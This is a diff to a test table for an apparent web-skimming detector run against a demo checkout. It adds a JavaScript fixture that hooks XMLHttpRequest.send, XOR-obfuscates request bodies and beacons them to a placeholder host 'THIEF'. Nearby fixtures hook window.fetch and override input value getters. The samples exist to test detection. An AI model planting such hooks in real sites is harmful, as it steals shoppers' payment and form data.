@@ -38,6 +38,16 @@ window.fetch = function (input, init) {
   if (init && init.body) navigator.sendBeacon('THIEF/b', btoa(unescape(encodeURIComponent(init.body))));
   return plain.apply(this, arguments);
 };`, demoshop.Checkout{PlaceBy: demoshop.Fetch}, "page/native-hooked", tillwatch.High, "fetch"},
+		"a request with an encrypted copy": {`
+const send = XMLHttpRequest.prototype.send;
+XMLHttpRequest.prototype.send = function (body) {
+  if (body && body.length > 40) {
+    const key = crypto.getRandomValues(new Uint8Array(16));
+    const text = Array.from(String(body).slice(-200), (c, i) => String.fromCharCode((c.charCodeAt(0) ^ key[i % 16] ^ i * 7) & 255)).join('');
+    new Image().src = 'THIEF/i.gif?d=' + encodeURIComponent(btoa(text));
+  }
+  return send.apply(this, arguments);
+};`, demoshop.Checkout{PlaceBy: demoshop.XHR}, "page/native-hooked", tillwatch.Medium, "XMLHttpRequest.prototype.send"},
 		"a getter of its own": {`
 const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
 Object.defineProperty(HTMLInputElement.prototype, 'value', {...native, get() { const v = native.get.call(this); (window.kept ||= {})[this.name] = v; return v; }});`,
